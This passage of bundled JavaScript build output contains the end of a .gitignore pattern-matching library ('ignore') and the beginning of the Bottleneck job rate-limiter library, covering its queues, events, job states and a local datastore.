      return separator;
    };
    var pinWildcards = (source) => {
      if (source.indexOf(WILDCARD) < 0) {
        return source;
      }
      const tokens = [];
      const { length } = source;
      let index = 0;
      while (index < length) {
        const char = source[index];
        if (source.startsWith(WILDCARD, index)) {
          tokens.push({ wildcard: true });
          index += WILDCARD.length;
        } else if (char === "[") {
          let end = index + 1;
          if (source[end] === "^") {
            end++;
          }
          if (source[end] === "]") {
            end++;
          }
          while (end < length && source[end] !== "]") {
            end += source[end] === ESCAPE ? 2 : 1;
          }
          end++;
          tokens.push({ single: source.slice(index, end) });
          index = end;
        } else if (char === ESCAPE) {
          tokens.push({ single: source.slice(index, index + 2) });
          index += 2;
        } else if (char === "(") {
          let depth = 0;
          let end = index;
          do {
            if (source[end] === ESCAPE) {
              end++;
            } else if (source[end] === "(") {
              depth++;
            } else if (source[end] === ")") {
              depth--;
            }
            end++;
          } while (end < length && depth > 0);
          if ("*+?".indexOf(source[end]) >= 0) {
            end++;
          }
          tokens.push({ boundary: source.slice(index, end) });
          index = end;
        } else if (char === "^" || char === "$") {
          tokens.push({ boundary: char });
          index++;
        } else {
          tokens.push({ single: char });
          index++;
        }
      }
      let out2 = EMPTY;
      let run3 = [];
      const flush = () => {
        let lastWildcard;
        run3.forEach((token, at) => {
          if (token.wildcard) {
            lastWildcard = at;
          }
        });
        run3.forEach((token, at) => {
          if (!token.wildcard) {
            out2 += token.single;
            return;
          }
          out2 += at === lastWildcard ? WILDCARD : `(?:(?!${separatorAfter(run3, at)})[^\\/])*`;
        });
        run3 = [];
      };
      tokens.forEach((token) => {
        if (token.boundary === void 0) {
          run3.push(token);
          return;
        }
        flush();
        out2 += token.boundary;
      });
      flush();
      return out2;
    };
    var makeRegexPrefix = (pattern) => {
      if (REGEX_ANCHORED_GLOBSTAR.test(pattern)) {
        pattern = "**";
      }
      const { source, sources } = extractBrackets(pattern);
      const replaced = REPLACERS.reduce(
        // A pass whose matcher finds nothing hands back the very string it was
        //   given, so asking first costs a search and saves a rewrite. Ten of the
        //   fifteen passes never fire for a typical .gitignore line, and between
        //   them they were 45% of this chain.
        (prev, [matcher, replacer, required]) => {
          if (matcher === DIRECT) {
            return replacer(prev, pattern);
          }
          if (required !== UNDEFINED && prev.indexOf(required) < 0) {
            return prev;
          }
          return matcher.test(prev) ? prev.replace(matcher, replacer.bind(pattern)) : prev;
        },
        source
      );
      return sources.length ? replaced.replace(
        REGEX_RESTORE_PLACEHOLDER,
        (match, index) => sources[index]
      ) : replaced;
    };
    var checkSourceOf = (body2, prefix) => {
      if (body2[body2.length - 1] === SLASH) {
        prefix = makeRegexPrefix(body2.slice(0, -1));
      }
      const head = prefix.slice(0, -1);
      const last = prefix[prefix.length - 1];
      return last === TRAILING_WILDCARD ? `${head}$` : last === TRAILING_DOUBLESTAR ? head : NEVER_MATCH;
    };
    var matchesBasename = (body2) => {
      const index = body2.indexOf(SLASH);
      return index < 0 || index === body2.length - 1;
    };
    var basenameOf = (path) => {
      const end = path.length - 1;
      const index = path.lastIndexOf(
        SLASH,
        path[end] === SLASH ? end - 1 : end
      );
      return index < 0 ? path : path.slice(index + 1);
    };
    var parentOf = (path) => {
      if (path.charCodeAt(0) === SLASH_CODE || path.indexOf(DOUBLE_SLASH) >= 0) {
        const slices = path.split(SLASH).filter(Boolean);
        slices.pop();
        return slices.length ? slices.join(SLASH) + SLASH : EMPTY;
      }
      const end = path.length - 1;
      const cut = path.lastIndexOf(
        SLASH,
        path.charCodeAt(end) === SLASH_CODE ? end - 1 : end
      );
      return cut < 0 ? EMPTY : path.slice(0, cut + 1);
    };
    var isString = (subject) => typeof subject === "string";
    var checkPattern = (pattern) => pattern && isString(pattern);
    var splitPattern = (pattern) => (pattern[pattern.length - 1] === "\r" ? pattern.slice(0, -1) : pattern).split(REGEX_SPLITALL_CRLF).filter(Boolean);
    var IgnoreRule = class {
      constructor(pattern, mark, body2, ignoreCase, negative, prefix) {
        this.pattern = pattern;
        this.mark = mark;
        this.negative = negative;
        define2(this, "body", body2);
        define2(this, "ignoreCase", ignoreCase);
        define2(this, "regexPrefix", prefix);
      }
      // Worked out on first use and kept behind an own property, the way `regex`
      //   caches itself in `_regex`. Deciding it in the constructor instead would
      //   add a fourth `defineProperty` to every rule ever built, which cost 4% of
      //   every compile -- including the compiles of rules that are never matched
      //   against anything.
      get _basenameOnly() {
        return define2(this, "_basenameOnly", matchesBasename(this.body));
      }
      get regex() {
        const key = UNDERSCORE + MODE_IGNORE;
        if (this[key]) {
          return this[key];
        }
        return this._make(MODE_IGNORE, key);
      }
      get checkRegex() {
        const key = UNDERSCORE + MODE_CHECK_IGNORE;
        if (this[key]) {
          return this[key];
        }
        return this._make(MODE_CHECK_IGNORE, key);
      }
      _make(mode, key) {
        const str = pinWildcards(
          mode === MODE_IGNORE ? this.regexPrefix.replace(REGEX_REPLACE_TRAILING_WILDCARD, replaceTrailingWildcard).replace(REGEX_REPLACE_TRAILING_DOUBLESTAR, replaceTrailingDoublestar) : checkSourceOf(this.body, this.regexPrefix)
        );
        const regex2 = this.ignoreCase ? new RegExp(str, "i") : new RegExp(str);
        return define2(this, key, regex2);
      }
    };
    var hasTrailingBackslash = (str) => {
      let count = 0;
      while (str[str.length - count - 1] === ESCAPE) {
        count++;
      }
      return count % 2 === 1;
    };
    var trimEnd = (body2, stripLineEnd) => {
      let lineEnd = body2.length;
      let end;
      for (; ; ) {
        if (stripLineEnd && body2[lineEnd - 1] === "\r") {
          lineEnd--;
        }
        end = lineEnd;
        while (body2[end - 1] === SPACE) {
          end--;
        }
        if (!stripLineEnd || body2[end - 1] !== "\n") {
          break;
        }
        lineEnd = end - 1;
      }
      if (end === lineEnd) {
        return body2.slice(0, lineEnd);
      }
      let backslashes = 0;
      while (body2[end - backslashes - 1] === ESCAPE) {
        backslashes++;
      }
      return backslashes % 2 ? body2.slice(0, end - 1) + SPACE : body2.slice(0, end);
    };
    var createRule = (pattern, mark, ignoreCase, stripLineEnd, stripBOM) => {
      let body2 = stripBOM && pattern[0] === BOM ? pattern.slice(1) : pattern;
      if (body2[0] === "#") {
        return;
      }
      let negative = false;
      if (body2[0] === "!") {
        negative = true;
        body2 = body2.slice(1);
      }
      const last = body2[body2.length - 1];
      if (last === SPACE || stripLineEnd && (last === "\r" || last === "\n")) {
        body2 = trimEnd(body2, stripLineEnd);
      }
      if (!body2 || hasTrailingBackslash(body2)) {
        return;
      }
      body2 = body2.replace(REGEX_REPLACE_LEADING_EXCAPED_EXCLAMATION, "!").replace(REGEX_REPLACE_LEADING_EXCAPED_HASH, "#");
      const regexPrefix = makeRegexPrefix(body2);
      return new IgnoreRule(
        pattern,
        mark,
        body2,
        ignoreCase,
        negative,
        regexPrefix
      );
    };
    var RuleManager = class {
      constructor(ignoreCase) {
        this._ignoreCase = ignoreCase;
        this._rules = [];
        this._basenameCount = 0;
      }
      _add(pattern, index) {
        if (pattern && pattern[KEY_IGNORE]) {
          this._rules = this._rules.concat(pattern._rules._rules);
          this._basenameCount += pattern._rules._basenameCount;
          this._added = true;
          return;
        }
        const isStr = isString(pattern);
        const raw = isStr ? pattern : pattern.pattern;
        const rule = checkPattern(raw) && createRule(
          raw,
          isStr ? UNDEFINED : pattern.mark,
          this._ignoreCase,
          !this._split,
          this._stripBOM && !index
        );
        if (rule) {
          this._added = true;
          this._rules.push(rule);
          if (matchesBasename(rule.body)) {
            this._basenameCount++;
          }
        }
      }
      // @param {Array<string> | string | Ignore} pattern
      add(pattern) {
        this._added = false;
        this._split = isString(pattern);
        this._stripBOM = !this._split || pattern[0] === BOM;
        makeArray(
          this._split ? splitPattern(pattern) : pattern
        ).forEach(this._add, this);
        if (this._added) {
          this._literalRules = UNDEFINED;
        }
        return this._added;
      }
      // Match the literal 'abc/' for `checkIgnore`, last rule wins. Only a rule
      //   ending in a wildcard can match it (see `checkSourceOf`), so the rest
      //   are left out once, rather than tested or compiled for every path.
      testLiteral(path) {
        const rules = this._literalRules || (this._literalRules = this._rules.filter(
          ({ body: body2 }) => body2[body2.length - (body2[body2.length - 1] === SLASH ? 2 : 1)] === "*"
        ));
        let ignored = false;
        let unignored = false;
        let matchedRule;
        for (let index = rules.length - 1; index >= 0; index--) {
          const rule = rules[index];
          if (rule.checkRegex.test(path)) {
            ignored = !rule.negative;
            unignored = rule.negative;
            matchedRule = rule.negative ? UNDEFINED : rule;
            break;
          }
        }
        const ret = {
          ignored,
          unignored
        };
        if (matchedRule) {
          ret.rule = matchedRule;
        }
        return ret;
      }
      // Test one single path without recursively checking parent directories
      //
      // - mode `string` either `MODE_IGNORE` or `MODE_CHECK_IGNORE`
      // @returns {TestResult}
      test(path, mode) {
        const rules = this._rules;
        const { length } = rules;
        const shortcut = this._basenameCount * 2 >= length;
        const basename4 = shortcut ? basenameOf(path) : path;
        for (let index = length - 1; index >= 0; index--) {
          const rule = rules[index];
          if (rule[mode].test(
            shortcut && rule._basenameOnly ? basename4 : path
          )) {
            const { negative } = rule;
            const ret = {
              ignored: !negative,
              unignored: negative
            };
            if (!negative) {
              ret.rule = rule;
            }
            return ret;
          }
        }
        return {
          ignored: false,
          unignored: false
        };
      }
    };
    var throwError = (message15, Ctor) => {
      throw new Ctor(message15);
    };
    var checkPath = (path, originalPath, doThrow) => {
      if (!isString(path)) {
        return doThrow(
          `path must be a string, but got \`${originalPath}\``,
          TypeError
        );
      }
      if (!path) {
        return doThrow(`path must not be empty`, TypeError);
      }
      if (checkPath.isNotRelative(path)) {
        const r = "`path.relative()`d";
        return doThrow(
          `path should be a ${r} string, but got "${originalPath}"`,
          RangeError
        );
      }
      return true;
    };
    var isNotRelative = (path) => {
      const first = path.charCodeAt(0);
      if (first === SLASH_CODE) {
        return true;
      }
      if (first !== DOT_CODE) {
        return false;
      }
      if (path.length === 1) {
        return true;
      }
      const second = path.charCodeAt(1);
      if (second === SLASH_CODE) {
        return true;
      }
      if (second !== DOT_CODE) {
        return false;
      }
      return path.length === 2 || path.charCodeAt(2) === SLASH_CODE;
    };
    checkPath.isNotRelative = isNotRelative;
    checkPath.convert = (p) => p;
    var convertPath = (target) => isString(target) && checkPath.convert(target);
    var Ignore = class {
      constructor({
        ignorecase = true,
        ignoreCase = ignorecase,
        allowRelativePaths = false
      } = {}) {
        define2(this, KEY_IGNORE, true);
        this._rules = new RuleManager(ignoreCase);
        this._strictPathCheck = !allowRelativePaths;
        this._initCache();
      }
      _initCache() {
        this._ignoreCache = /* @__PURE__ */ Object.create(null);
        this._testCache = /* @__PURE__ */ Object.create(null);
      }
      add(pattern) {
        if (this._rules.add(pattern)) {
          this._initCache();
        }
        return this;
      }
      // legacy
      addPattern(pattern) {
        return this.add(pattern);
      }
      // @returns {TestResult}
      _test(originalPath, cache, path) {
        checkPath(
          path,
          originalPath,
          this._strictPathCheck ? throwError : RETURN_FALSE
        );
        return path ? this._t(path, cache) : {
          ignored: false,
          unignored: false
        };
      }
      checkIgnore(target) {
        const path = convertPath(target);
        if (!path || path.charCodeAt(path.length - 1) !== SLASH_CODE) {
          return this._test(target, this._testCache, path);
        }
        const dir = this._t(path, this._testCache);
        if (dir.ignored) {
          return dir;
        }
        const literal = this._rules.testLiteral(path);
        return literal.ignored || literal.unignored ? literal : dir;
      }
      _t(path, cache) {
        if (path in cache) {
          return cache[path];
        }
        const parentPath = parentOf(path);
        const parent = parentPath ? this._t(parentPath, cache) : UNDEFINED;
        return cache[path] = parent && parent.ignored ? parent : this._rules.test(path, MODE_IGNORE);
      }
      ignores(path) {
        return this._test(path, this._ignoreCache, convertPath(path)).ignored;
      }
      createFilter() {
        return (path) => !this.ignores(path);
      }
      filter(paths) {
        return makeArray(paths).filter(this.createFilter());
      }
      // @returns {TestResult}
      test(path) {
        return this._test(path, this._testCache, convertPath(path));
      }
    };
    var factory = (options) => new Ignore(options);
    var isPathValid = (path) => checkPath(convertPath(path), path, RETURN_FALSE);
    var setupWindows = () => {
      const makePosix = (str) => /^\\\\\?\\/.test(str) || /["<>|\u0000-\u001F]+/u.test(str) ? str : str.replace(/\\/g, "/");
      checkPath.convert = makePosix;
      const REGEX_TEST_WINDOWS_PATH_ABSOLUTE = /^[a-z]:\//i;
      checkPath.isNotRelative = (path) => REGEX_TEST_WINDOWS_PATH_ABSOLUTE.test(path) || isNotRelative(path);
    };
    if (
      // Detect `process` so that it can run in browsers.
      typeof process !== "undefined" && process.platform === "win32"
    ) {
      setupWindows();
    }
    module2.exports = factory;
    factory.default = factory;
    module2.exports.isPathValid = isPathValid;
    define2(module2.exports, /* @__PURE__ */ Symbol.for("setupWindows"), setupWindows);
  }
});

// node_modules/bottleneck/light.js
var require_light = __commonJS({
  "node_modules/bottleneck/light.js"(exports, module2) {
    (function(global2, factory) {
      typeof exports === "object" && typeof module2 !== "undefined" ? module2.exports = factory() : typeof define === "function" && define.amd ? define(factory) : global2.Bottleneck = factory();
    })(exports, (function() {
      "use strict";
      var commonjsGlobal = typeof globalThis !== "undefined" ? globalThis : typeof window !== "undefined" ? window : typeof global !== "undefined" ? global : typeof self !== "undefined" ? self : {};
      function getCjsExportFromNamespace(n) {
        return n && n["default"] || n;
      }
      var load = function(received, defaults, onto = {}) {
        var k, ref, v;
        for (k in defaults) {
          v = defaults[k];
          onto[k] = (ref = received[k]) != null ? ref : v;
        }
        return onto;
      };
      var overwrite = function(received, defaults, onto = {}) {
        var k, v;
        for (k in received) {
          v = received[k];
          if (defaults[k] !== void 0) {
            onto[k] = v;
          }
        }
        return onto;
      };
      var parser = {
        load,
        overwrite
      };
      var DLList;
      DLList = class DLList {
        constructor(incr, decr) {
          this.incr = incr;
          this.decr = decr;
          this._first = null;
          this._last = null;
          this.length = 0;
        }
        push(value) {
          var node;
          this.length++;
          if (typeof this.incr === "function") {
            this.incr();
          }
          node = {
            value,
            prev: this._last,
            next: null
          };
          if (this._last != null) {
            this._last.next = node;
            this._last = node;
          } else {
            this._first = this._last = node;
          }
          return void 0;
        }
        shift() {
          var value;
          if (this._first == null) {
            return;
          } else {
            this.length--;
            if (typeof this.decr === "function") {
              this.decr();
            }
          }
          value = this._first.value;
          if ((this._first = this._first.next) != null) {
            this._first.prev = null;
          } else {
            this._last = null;
          }
          return value;
        }
        first() {
          if (this._first != null) {
            return this._first.value;
          }
        }
        getArray() {
          var node, ref, results;
          node = this._first;
          results = [];
          while (node != null) {
            results.push((ref = node, node = node.next, ref.value));
          }
          return results;
        }
        forEachShift(cb) {
          var node;
          node = this.shift();
          while (node != null) {
            cb(node), node = this.shift();
          }
          return void 0;
        }
        debug() {
          var node, ref, ref1, ref2, results;
          node = this._first;
          results = [];
          while (node != null) {
            results.push((ref = node, node = node.next, {
              value: ref.value,
              prev: (ref1 = ref.prev) != null ? ref1.value : void 0,
              next: (ref2 = ref.next) != null ? ref2.value : void 0
            }));
          }
          return results;
        }
      };
      var DLList_1 = DLList;
      var Events;
      Events = class Events {
        constructor(instance2) {
          this.instance = instance2;
          this._events = {};
          if (this.instance.on != null || this.instance.once != null || this.instance.removeAllListeners != null) {
            throw new Error("An Emitter already exists for this object");
          }
          this.instance.on = (name2, cb) => {
            return this._addListener(name2, "many", cb);
          };
          this.instance.once = (name2, cb) => {
            return this._addListener(name2, "once", cb);
          };
          this.instance.removeAllListeners = (name2 = null) => {
            if (name2 != null) {
              return delete this._events[name2];
            } else {
              return this._events = {};
            }
          };
        }
        _addListener(name2, status, cb) {
          var base;
          if ((base = this._events)[name2] == null) {
            base[name2] = [];
          }
          this._events[name2].push({ cb, status });
          return this.instance;
        }
        listenerCount(name2) {
          if (this._events[name2] != null) {
            return this._events[name2].length;
          } else {
            return 0;
          }
        }
        async trigger(name2, ...args2) {
          var e, promises;
          try {
            if (name2 !== "debug") {
              this.trigger("debug", `Event triggered: ${name2}`, args2);
            }
            if (this._events[name2] == null) {
              return;
            }
            this._events[name2] = this._events[name2].filter(function(listener) {
              return listener.status !== "none";
            });
            promises = this._events[name2].map(async (listener) => {
              var e2, returned;
              if (listener.status === "none") {
                return;
              }
              if (listener.status === "once") {
                listener.status = "none";
              }
              try {
                returned = typeof listener.cb === "function" ? listener.cb(...args2) : void 0;
                if (typeof (returned != null ? returned.then : void 0) === "function") {
                  return await returned;
                } else {
                  return returned;
                }
              } catch (error) {
                e2 = error;
                {
                  this.trigger("error", e2);
                }
                return null;
              }
            });
            return (await Promise.all(promises)).find(function(x) {
              return x != null;
            });
          } catch (error) {
            e = error;
            {
              this.trigger("error", e);
            }
            return null;
          }
        }
      };
      var Events_1 = Events;
      var DLList$1, Events$1, Queues;
      DLList$1 = DLList_1;
      Events$1 = Events_1;
      Queues = class Queues {
        constructor(num_priorities) {
          var i2;
          this.Events = new Events$1(this);
          this._length = 0;
          this._lists = (function() {
            var j, ref, results;
            results = [];
            for (i2 = j = 1, ref = num_priorities; 1 <= ref ? j <= ref : j >= ref; i2 = 1 <= ref ? ++j : --j) {
              results.push(new DLList$1((() => {
                return this.incr();
              }), (() => {
                return this.decr();
              })));
            }
            return results;
          }).call(this);
        }
        incr() {
          if (this._length++ === 0) {
            return this.Events.trigger("leftzero");
          }
        }
        decr() {
          if (--this._length === 0) {
            return this.Events.trigger("zero");
          }
        }
        push(job) {
          return this._lists[job.options.priority].push(job);
        }
        queued(priority) {
          if (priority != null) {
            return this._lists[priority].length;
          } else {
            return this._length;
          }
        }
        shiftAll(fn) {
          return this._lists.forEach(function(list) {
            return list.forEachShift(fn);
          });
        }
        getFirst(arr = this._lists) {
          var j, len, list;
          for (j = 0, len = arr.length; j < len; j++) {
            list = arr[j];
            if (list.length > 0) {
              return list;
            }
          }
          return [];
        }
        shiftLastFrom(priority) {
          return this.getFirst(this._lists.slice(priority).reverse()).shift();
        }
      };
      var Queues_1 = Queues;
      var BottleneckError;
      BottleneckError = class BottleneckError extends Error {
      };
      var BottleneckError_1 = BottleneckError;
      var BottleneckError$1, DEFAULT_PRIORITY, Job, NUM_PRIORITIES, parser$1;
      NUM_PRIORITIES = 10;
      DEFAULT_PRIORITY = 5;
      parser$1 = parser;
      BottleneckError$1 = BottleneckError_1;
      Job = class Job {
        constructor(task, args2, options, jobDefaults, rejectOnDrop, Events2, _states, Promise2) {
          this.task = task;
          this.args = args2;
          this.rejectOnDrop = rejectOnDrop;
          this.Events = Events2;
          this._states = _states;
          this.Promise = Promise2;
          this.options = parser$1.load(options, jobDefaults);
          this.options.priority = this._sanitizePriority(this.options.priority);
          if (this.options.id === jobDefaults.id) {
            this.options.id = `${this.options.id}-${this._randomIndex()}`;
          }
          this.promise = new this.Promise((_resolve, _reject) => {
            this._resolve = _resolve;
            this._reject = _reject;
          });
          this.retryCount = 0;
        }
        _sanitizePriority(priority) {
          var sProperty;
          sProperty = ~~priority !== priority ? DEFAULT_PRIORITY : priority;
          if (sProperty < 0) {
            return 0;
          } else if (sProperty > NUM_PRIORITIES - 1) {
            return NUM_PRIORITIES - 1;
          } else {
            return sProperty;
          }
        }
        _randomIndex() {
          return Math.random().toString(36).slice(2);
        }
        doDrop({ error, message: message15 = "This job has been dropped by Bottleneck" } = {}) {
          if (this._states.remove(this.options.id)) {
            if (this.rejectOnDrop) {
              this._reject(error != null ? error : new BottleneckError$1(message15));
            }
            this.Events.trigger("dropped", { args: this.args, options: this.options, task: this.task, promise: this.promise });
            return true;
          } else {
            return false;
          }
        }
        _assertStatus(expected) {
          var status;
          status = this._states.jobStatus(this.options.id);
          if (!(status === expected || expected === "DONE" && status === null)) {
            throw new BottleneckError$1(`Invalid job status ${status}, expected ${expected}. Please open an issue at https://github.com/SGrondin/bottleneck/issues`);
          }
        }
        doReceive() {
          this._states.start(this.options.id);
          return this.Events.trigger("received", { args: this.args, options: this.options });
        }
        doQueue(reachedHWM, blocked) {
          this._assertStatus("RECEIVED");
          this._states.next(this.options.id);
          return this.Events.trigger("queued", { args: this.args, options: this.options, reachedHWM, blocked });
        }
        doRun() {
          if (this.retryCount === 0) {
            this._assertStatus("QUEUED");
            this._states.next(this.options.id);
          } else {
            this._assertStatus("EXECUTING");
          }
          return this.Events.trigger("scheduled", { args: this.args, options: this.options });
        }
        async doExecute(chained, clearGlobalState, run3, free) {
          var error, eventInfo, passed;
          if (this.retryCount === 0) {
            this._assertStatus("RUNNING");
            this._states.next(this.options.id);
          } else {
            this._assertStatus("EXECUTING");
          }
          eventInfo = { args: this.args, options: this.options, retryCount: this.retryCount };
          this.Events.trigger("executing", eventInfo);
          try {
            passed = await (chained != null ? chained.schedule(this.options, this.task, ...this.args) : this.task(...this.args));
            if (clearGlobalState()) {
              this.doDone(eventInfo);
              await free(this.options, eventInfo);
              this._assertStatus("DONE");
              return this._resolve(passed);
            }
          } catch (error1) {
            error = error1;
            return this._onFailure(error, eventInfo, clearGlobalState, run3, free);
          }
        }
        doExpire(clearGlobalState, run3, free) {
          var error, eventInfo;
          if (this._states.jobStatus(this.options.id === "RUNNING")) {
            this._states.next(this.options.id);
          }
          this._assertStatus("EXECUTING");
          eventInfo = { args: this.args, options: this.options, retryCount: this.retryCount };
          error = new BottleneckError$1(`This job timed out after ${this.options.expiration} ms.`);
          return this._onFailure(error, eventInfo, clearGlobalState, run3, free);
        }
        async _onFailure(error, eventInfo, clearGlobalState, run3, free) {
          var retry2, retryAfter;
          if (clearGlobalState()) {
            retry2 = await this.Events.trigger("failed", error, eventInfo);
            if (retry2 != null) {
              retryAfter = ~~retry2;
              this.Events.trigger("retry", `Retrying ${this.options.id} after ${retryAfter} ms`, eventInfo);
              this.retryCount++;
              return run3(retryAfter);
            } else {
              this.doDone(eventInfo);
              await free(this.options, eventInfo);
              this._assertStatus("DONE");
              return this._reject(error);
            }
          }
        }
        doDone(eventInfo) {
          this._assertStatus("EXECUTING");
          this._states.next(this.options.id);
          return this.Events.trigger("done", eventInfo);
        }
      };
      var Job_1 = Job;
      var BottleneckError$2, LocalDatastore, parser$2;
      parser$2 = parser;
      BottleneckError$2 = BottleneckError_1;
      LocalDatastore = class LocalDatastore {
        constructor(instance2, storeOptions, storeInstanceOptions) {
          this.instance = instance2;
          this.storeOptions = storeOptions;
          this.clientId = this.instance._randomIndex();
          parser$2.load(storeInstanceOptions, storeInstanceOptions, this);
          this._nextRequest = this._lastReservoirRefresh = this._lastReservoirIncrease = Date.now();
          this._running = 0;
          this._done = 0;
          this._unblockTime = 0;
          this.ready = this.Promise.resolve();
          this.clients = {};
          this._startHeartbeat();
        }
        _startHeartbeat() {
          var base;
          if (this.heartbeat == null && (this.storeOptions.reservoirRefreshInterval != null && this.storeOptions.reservoirRefreshAmount != null || this.storeOptions.reservoirIncreaseInterval != null && this.storeOptions.reservoirIncreaseAmount != null)) {
            return typeof (base = this.heartbeat = setInterval(() => {
              var amount, incr, maximum, now, reservoir;
              now = Date.now();
              if (this.storeOptions.reservoirRefreshInterval != null && now >= this._lastReservoirRefresh + this.storeOptions.reservoirRefreshInterval) {
                this._lastReservoirRefresh = now;
                this.storeOptions.reservoir = this.storeOptions.reservoirRefreshAmount;
                this.instance._drainAll(this.computeCapacity());
              }
              if (this.storeOptions.reservoirIncreaseInterval != null && now >= this._lastReservoirIncrease + this.storeOptions.reservoirIncreaseInterval) {
                ({
                  reservoirIncreaseAmount: amount,
                  reservoirIncreaseMaximum: maximum,
                  reservoir
                } = this.storeOptions);
                this._lastReservoirIncrease = now;
                incr = maximum != null ? Math.min(amount, maximum - reservoir) : amount;
                if (incr > 0) {
                  this.storeOptions.reservoir += incr;
                  return this.instance._drainAll(this.computeCapacity());
                }
              }
            }, this.heartbeatInterval)).unref === "function" ? base.unref() : void 0;
          } else {
            return clearInterval(this.heartbeat);
          }
        }
        async __publish__(message15) {
          await this.yieldLoop();
          return this.instance.Events.trigger("message", message15.toString());
        }
        async __disconnect__(flush) {
          await this.yieldLoop();
          clearInterval(this.heartbeat);
          return this.Promise.resolve();
        }
        yieldLoop(t = 0) {
          return new this.Promise(function(resolve9, reject) {
            return setTimeout(resolve9, t);
          });
        }
        computePenalty() {
          var ref;
          return (ref = this.storeOptions.penalty) != null ? ref : 15 * this.storeOptions.minTime || 5e3;
        }
        async __updateSettings__(options) {
          await this.yieldLoop();
          parser$2.overwrite(options, options, this.storeOptions);
          this._startHeartbeat();
          this.instance._drainAll(this.computeCapacity());
          return true;
        }
        async __running__() {
          await this.yieldLoop();
          return this._running;
        }
        async __queued__() {
          await this.yieldLoop();
          return this.instance.queued();
        }
        async __done__() {
          await this.yieldLoop();
          return this._done;
        }
        async __groupCheck__(time) {
          await this.yieldLoop();
          return this._nextRequest + this.timeout < time;
        }
        computeCapacity() {
          var maxConcurrent, reservoir;
          ({ maxConcurrent, reservoir } = this.storeOptions);
          if (maxConcurrent != null && reservoir != null) {
            return Math.min(maxConcurrent - this._running, reservoir);
          } else if (maxConcurrent != null) {
            return maxConcurrent - this._running;
          } else if (reservoir != null) {
            return reservoir;
          } else {
            return null;
          }
        }
        conditionsCheck(weight) {
          var capacity;
          capacity = this.computeCapacity();
          return capacity == null || weight <= capacity;
        }
        async __incrementReservoir__(incr) {
          var reservoir;
          await this.yieldLoop();
          reservoir = this.storeOptions.reservoir += incr;
          this.instance._drainAll(this.computeCapacity());
          return reservoir;
        }
        async __currentReservoir__() {
          await this.yieldLoop();
          return this.storeOptions.reservoir;
        }
        isBlocked(now) {
          return this._unblockTime >= now;
        }
        check(weight, now) {
          return this.conditionsCheck(weight) && this._nextRequest - now <= 0;
        }
        async __check__(weight) {
          var now;
          await this.yieldLoop();
          now = Date.now();
          return this.check(weight, now);
        }
        async __register__(index, weight, expiration) {
          var now, wait;
          await this.yieldLoop();
          now = Date.now();
          if (this.conditionsCheck(weight)) {
            this._running += weight;
            if (this.storeOptions.reservoir != null) {
              this.storeOptions.reservoir -= weight;
            }
            wait = Math.max(this._nextRequest - now, 0);
            this._nextRequest = now + wait + this.storeOptions.minTime;
            return {
              success: true,
              wait,
              reservoir: this.storeOptions.reservoir
            };
          } else {
            return {
              success: false
            };
          }
        }
        strategyIsBlock() {
          return this.storeOptions.strategy === 3;
        }
        async __submit__(queueLength, weight) {
          var blocked, now, reachedHWM;
          await this.yieldLoop();
          if (this.storeOptions.maxConcurrent != null && weight > this.storeOptions.maxConcurrent) {
            throw new BottleneckError$2(`Impossible to add a job having a weight of ${weight} to a limiter having a maxConcurrent setting of ${this.storeOptions.maxConcurrent}`);
          }
          now = Date.now();
          reachedHWM = this.storeOptions.highWater != null && queueLength === this.storeOptions.highWater && !this.check(weight, now);
          blocked = this.strategyIsBlock() && (reachedHWM || this.isBlocked(now));
          if (blocked) {
            this._unblockTime = now + this.computePenalty();
            this._nextRequest = this._unblockTime + this.storeOptions.minTime;
            this.instance._dropAllQueued();
          }
          return {
            reachedHWM,
            blocked,
            strategy: this.storeOptions.strategy
          };
        }
        async __free__(index, weight) {
          await this.yieldLoop();
          this._running -= weight;
          this._done += weight;
          this.instance._drainAll(this.computeCapacity());
          return {
            running: this._running
          };
        }
      };
      var LocalDatastore_1 = LocalDatastore;
      var BottleneckError$3, States;
      BottleneckError$3 = BottleneckError_1;
      States = class States {
        constructor(status1) {
          this.status = status1;
          this._jobs = {};
          this.counts = this.status.map(function() {
            return 0;
          });
        }
        next(id) {
          var current, next;
          current = this._jobs[id];
          next = current + 1;
          if (current != null && next < this.status.length) {
            this.counts[current]--;
            this.counts[next]++;
            return this._jobs[id]++;
          } else if (current != null) {
            this.counts[current]--;
            return delete this._jobs[id];
          }
        }
        start(id) {
          var initial;
          initial = 0;
          this._jobs[id] = initial;
          return this.counts[initial]++;
        }
        remove(id) {
          var current;
          current = this._jobs[id];
          if (current != null) {
            this.counts[current]--;
            delete this._jobs[id];
          }
          return current != null;
        }
        jobStatus(id) {
          var ref;
          return (ref = this.status[this._jobs[id]]) != null ? ref : null;
        }
        statusJobs(status) {
          var k, pos, ref, results, v;
          if (status != null) {
            pos = this.status.indexOf(status);
            if (pos < 0) {
              throw new BottleneckError$3(`status must be one of ${this.status.join(", ")}`);
            }
            ref = this._jobs;
            results = [];
            for (k in ref) {
              v = ref[k];
              if (v === pos) {
                results.push(k);
              }
            }
            return results;
          } else {
            return Object.keys(this._jobs);
          }
        }
        statusCounts() {
          return this.counts.reduce(((acc, v, i2) => {
            acc[this.status[i2]] = v;
            return acc;
          }), {});
        }
      };
      var States_1 = States;
      var DLList$2, Sync;
      DLList$2 = DLList_1;
      Sync = class Sync {
        constructor(name2, Promise2) {
          this.schedule = this.schedule.bind(this);
          this.name = name2;
          this.Promise = Promise2;
          this._running = 0;
          this._queue = new DLList$2();
        }
        isEmpty() {
          return this._queue.length === 0;
        }
        async _tryToRun() {
          var args2, cb, error, reject, resolve9, returned, task;
          if (this._running < 1 && this._queue.length > 0) {
            this._running++;
            ({ task, args: args2, resolve: resolve9, reject } = this._queue.shift());
            cb = await (async function() {
              try {
                returned = await task(...args2);
                return function() {
                  return resolve9(returned);
                };
              } catch (error1) {
                error = error1;
                return function() {
                  return reject(error);
                };
              }
            })();
            this._running--;
            this._tryToRun();
            return cb();
          }
        }
        schedule(task, ...args2) {
          var promise, reject, resolve9;
          resolve9 = reject = null;
          promise = new this.Promise(function(_resolve, _reject) {
            resolve9 = _resolve;
            return reject = _reject;
          });
          this._queue.push({ task, args: args2, resolve: resolve9, reject });
          this._tryToRun();
          return promise;
        }
      };
      var Sync_1 = Sync;
      var version = "2.19.5";
      var version$1 = {
        version
      };
      var version$2 = /* @__PURE__ */ Object.freeze({
        version,
        default: version$1
      });
      var require$$2 = () => console.log("You must import the full version of Bottleneck in order to use this feature.");
      var require$$3 = () => console.log("You must import the full version of Bottleneck in order to use this feature.");
      var require$$4 = () => console.log("You must import the full version of Bottleneck in order to use this feature.");
      var Events$2, Group, IORedisConnection$1, RedisConnection$1, Scripts$1, parser$3;
      parser$3 = parser;
